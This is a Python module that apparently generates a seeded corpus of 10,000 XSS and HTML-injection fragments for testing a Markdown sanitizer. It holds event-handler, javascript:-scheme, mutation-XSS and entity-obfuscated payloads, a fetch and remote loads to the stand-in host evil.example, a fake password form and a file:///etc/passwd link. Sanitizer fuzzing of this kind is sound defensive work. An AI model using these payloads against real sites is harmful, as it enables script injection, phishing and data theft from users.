"""Fragments of Markdown and HTML that want to run, made from a grammar of our own: the same ten thousand for the same seed.

A fragment is an attack (an element, a link, a frame, …) in a disguise (case, blanks, entities, unclosed quotes, nesting) within a
Markdown context (a list, a table, a link's title, a code span that never ends). `ran` is the mark that a script would leave.
"""

import random
from collections.abc import Callable, Iterator
from html import escape

SEED = 20_260_600
COUNT = 10_000
MARK = "window.ran=1"
ELSEWHERE = "https://evil.example"

_EVENTS = (
    "onerror onload onclick onmouseover onfocus onblur ontoggle onanimationstart onpointerenter onbeforeinput onscroll onwheel "
    "oncopy ondrag onplay oncanplay onloadstart onresize onhashchange onmessage onpageshow onunload onsubmit oninput onchange"
).split()
_ELEMENTS = "img svg body input video audio details iframe object embed marquee math table div a select button style keygen isindex".split()
_SCHEMES = ("javascript", "vbscript", "data", "livescript", "jar", "view-source", "blob", "file")
_BLANKS = (" ", "\t", "\n", "/", " / ", "\f", "\r\n", "\x0b", "  ")
_VOID_ATTACKS = (
    f"<img src={ELSEWHERE}/a.png>",
    f"<img srcset='{ELSEWHERE}/a.png 1x' src=x>",
    f"<video poster={ELSEWHERE}/a.png autoplay></video>",
    f"<audio src={ELSEWHERE}/a.mp3 autoplay>",
    f"<link rel=stylesheet href={ELSEWHERE}/a.css>",
    f"<link rel=dns-prefetch href={ELSEWHERE}>",
    f"<style>@import '{ELSEWHERE}/a.css';*{{background:url({ELSEWHERE}/b.png)}}</style>",
    f"<p style='background:url({ELSEWHERE}/c.png)'>styled</p>",
    f"<table background={ELSEWHERE}/d.png><td>cell</table>",
    f"<body background={ELSEWHERE}/e.png>",
    f"<iframe src={ELSEWHERE}></iframe>",
    f'<iframe srcdoc="<script>parent.{MARK}</script>"></iframe>',
    f"<frameset><frame src='javascript:{MARK}'></frameset>",
    f"<object data={ELSEWHERE}/f.swf></object>",
    f"<embed src={ELSEWHERE}/g.swf>",
    f"<form action={ELSEWHERE}><input name=password><button>Log in</button></form>",
    f"<input type=image src={ELSEWHERE}/h.png formaction={ELSEWHERE}>",
    f"<button form=login formaction=javascript:{MARK}>press</button>",
    f"<base href={ELSEWHERE}/><a href=/login>home</a>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<a href={ELSEWHERE} ping={ELSEWHERE}/ping target=_top>out</a>",
    f"<script src={ELSEWHERE}/a.js></script>",
    f"<script type=module>import '{ELSEWHERE}/m.js'</script>",
    f"<template><script>{MARK}</script></template>",
    f"<portal src={ELSEWHERE}>",
    f"<dialog open><form method=dialog onsubmit={MARK}><input autofocus onfocus={MARK}></form></dialog>",
    f"<isindex action=javascript:{MARK} type=image>",
)
_NESTED = (
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={MARK}>",
    f'<svg></p><style><a id="</style><img src=1 onerror={MARK}>">',
    f'<noscript><p title="</noscript><img src=x onerror={MARK}>">',
    f"<svg><desc><![CDATA[</desc><script>{MARK}</script>]]></svg>",
    f"<svg><animate onbegin={MARK} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{MARK}'><text y=20>press</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{MARK}</script></svg>#x'></svg>",
    f"<svg><foreignObject><body onload={MARK}></foreignObject></svg>",
    f"<math href='javascript:{MARK}'>press</math>",
    f'<xmp><p title="</xmp><svg/onload={MARK}>">',
    f'<textarea><p title="</textarea><img src=x onerror={MARK}>">',
    f"<select><option><style></select><img src=x onerror={MARK}></style>",
    f"<!--><img src=x onerror={MARK}>-->",
    f"<!-- --!><script>{MARK}</script> -->",
    f"<![CDATA[<script>{MARK}</script>]]>",
    f"<?xml version='1.0'?><script>{MARK}</script>",
    f"<listing>&lt;img src=x onerror={MARK}&gt;</listing>",
    f"<a href='x' title='</a><script>{MARK}</script>'>x</a>",
)


def hostile_fragments(*, seed: int = SEED, count: int = COUNT) -> list[str]:
    """So many different fragments; which they are depends on the seed alone."""
    chance = random.Random(seed)
    found: dict[str, None] = {}
    while len(found) < count:
        found[_fragment(chance)] = None
    return list(found)


def _fragment(chance: random.Random) -> str:
    return chance.choice(_CONTEXTS)(chance, chance.choice(_ATTACKS)(chance))


def _handler(chance: random.Random) -> str:
    """An element with an event attribute."""
    gap, quote = chance.choice(_BLANKS), chance.choice(("", "'", '"', "`"))
    name = _cased(chance, f"{chance.choice(_ELEMENTS)}")
    event = _cased(chance, chance.choice(_EVENTS))
    equals = chance.choice(("=", " = ", "=\n", "\t="))
    closed = chance.choice((">", "/>", "", " x=", ">inner</" + name + ">"))
    source = chance.choice(("src=x", "src", "autofocus", "open", "tabindex=1", "autoplay src=x", f"src={ELSEWHERE}/i.png"))
    return f"<{name}{gap}{source}{chance.choice(_BLANKS)}{event}{equals}{quote}{_script(chance)}{quote}{closed}"


def _element(chance: random.Random) -> str:
    """A script element."""
    name = _cased(chance, "script")
    inner = _script(chance)
    shape = chance.choice(
        (
            "<{n}>{i}</{n}>", "<{n} >{i}</{n} >", "<{n}/x>{i}</{n}>", "<{n}\n>{i}</{n}\n>", "<<{n}>{i}//<</{n}>", "<{n}>{i}",
            "</{n}><{n}>{i}</{n}>",
            "<scr<{n}>ipt>{i}</scr</{n}>ipt>", "<{n}\x00>{i}</{n}>", "%3C{n}%3E{i}%3C/{n}%3E", "&lt;{n}&gt;{i}&lt;/{n}&gt;",
            "\\<{n}>{i}\\</{n}>",
        )
    )  # fmt: skip
    return shape.format(n=name, i=inner)


def _url(chance: random.Random) -> str:
    """An address that is a program."""
    scheme = chance.choice(_SCHEMES)
    body = {"data": f"text/html,<script>{MARK}</script>", "file": "///etc/passwd"}.get(scheme, _script(chance))
    if scheme == "data" and chance.random() < 0.5:
        body = "text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4="
    return _scheme_disguised(chance, scheme) + chance.choice((":", "&colon;", "&#58;", "&#x3A;", ":\t", "\\:")) + body


def _scheme_disguised(chance: random.Random, scheme: str) -> str:
    at = chance.randrange(1, len(scheme))
    inner = chance.choice(("", "", "&Tab;", "&NewLine;", "&#9;", "&#x0A;", "\t", "\x00", "\u200b", "/**/", "%0A"))
    first = chance.choice((scheme[0], f"&#{ord(scheme[0])};", f"&#x{ord(scheme[0]):x};", f"&#{ord(scheme[0]):07d}", f"\\{scheme[0]}"))
    before = chance.choice(("", "", " ", "\x01", "\u00a0", "&#1;", "\ufeff"))
    return before + _cased(chance, first + scheme[1:at] + inner + scheme[at:])


def _link(chance: random.Random) -> str:
    """Markdown's and HTML's ways to an address."""
    url = _url(chance)
    shape = chance.choice(
        (
            "[press]({u})", "[press](<{u}>)", "<{u}>", "![alt]({u})", "[press][r]\n\n[r]: {u}", "[r]\n\n[r]: <{u}> 'title'",
            "[![alt](x)]({u})",
            "<a href={u}>press</a>", "<a href='{u}'>press</a>", '<a href="{u}">press</a>', "<a href=`{u}`>press</a>",
            "[press]( {u} 'x\" onclick={m}')",
            "[a](x \"title\" onmouseover={m})", "[a]({u}\"onmouseover={m})", "<form action='{u}'><button>go", "<iframe src='{u}'>",
            "![x]({e}/p.png)",
            "[x]({e}/p.png 'a')", "<area href='{u}' coords=0,0,9,9>", "<object data='{u}'>", "<embed src='{u}'>", "<base href='{u}//'>",
        )
    )  # fmt: skip
    return shape.format(u=url, m=_script(chance), e=ELSEWHERE)


def _void(chance: random.Random) -> str:
    return _cased(chance, chance.choice(_VOID_ATTACKS)) if chance.random() < 0.3 else chance.choice(_VOID_ATTACKS)


def _nested(chance: random.Random) -> str:
    """Elements that a second reading takes apart otherwise than the first."""
    found = chance.choice(_NESTED)
    if chance.random() < 0.4:
        found = f"<{chance.choice(_ELEMENTS)}>{found}"
    return found[: -chance.randrange(1, 12)] if chance.random() < 0.2 else found


def _script(chance: random.Random) -> str:
    return chance.choice(
        (MARK, f"{MARK}//", f"alert({MARK})",
        "alert`1`", f"eval('{MARK}')", f"fetch('{ELSEWHERE}')", f"top[&#39;ran&#39;]={chance.randrange(9)}",
         escape(MARK), f"location='{ELSEWHERE}'", "document.write('<b>')")
    )  # fmt: skip


def _cased(chance: random.Random, text: str) -> str:
    kind = chance.random()
    if kind < 0.5:
        return text
    return text.upper() if kind < 0.7 else "".join(chance.choice((each.lower(), each.upper())) for each in text)


_ATTACKS: tuple[Callable[[random.Random], str], ...] = (_handler, _handler, _element, _link, _link, _link, _void, _nested)


def _contexts() -> Iterator[Callable[[random.Random, str], str]]:
    shapes = (
        "{a}", "{a}", "You are {a} here.", "- {a}\n- two", "1. {a}", "> {a}\n> more", "# {a}", "{a}\n===",
        "| a | b |\n|---|---|\n| {a} | c |",
        "**{a}**", "*{a}", "~~{a}~~", "`{a}", "``` {a}\n{a}\n", "    {a}", "<b>{a}</b>", "<div>\n\n{a}\n\n</div>", "<p {a}>",
        "<!-- {a} -->{a}",
        "[{a}](https://example.org)", "[x](https://example.org '{a}')", '[x](https://example.org "{a}")', "![{a}](x)", "[x]: {a}\n\n[x]",
        "&lt;{a}&gt;", "\\{a}", "{a}{a}", "text\\\n{a}", "<a title=\"{a}\" href=x>", "<https://example.org/{a}>", "[^1]: {a}",
        "{a}\n\n{a}", "<?{a}?>",
        "<![CDATA[{a}]]>", "---\nname: {a}\n---\n{a}", "{{{{ {a} }}}}", "\u202e{a}\u202c", "<{a}", "\"'>{a}", "</p></div></main>{a}",
        "</script>{a}", "]]>{a}",
    )  # fmt: skip
    for shape in shapes:
        yield lambda chance, attack, shape=shape: shape.format(a=attack)


_CONTEXTS = tuple(_contexts())
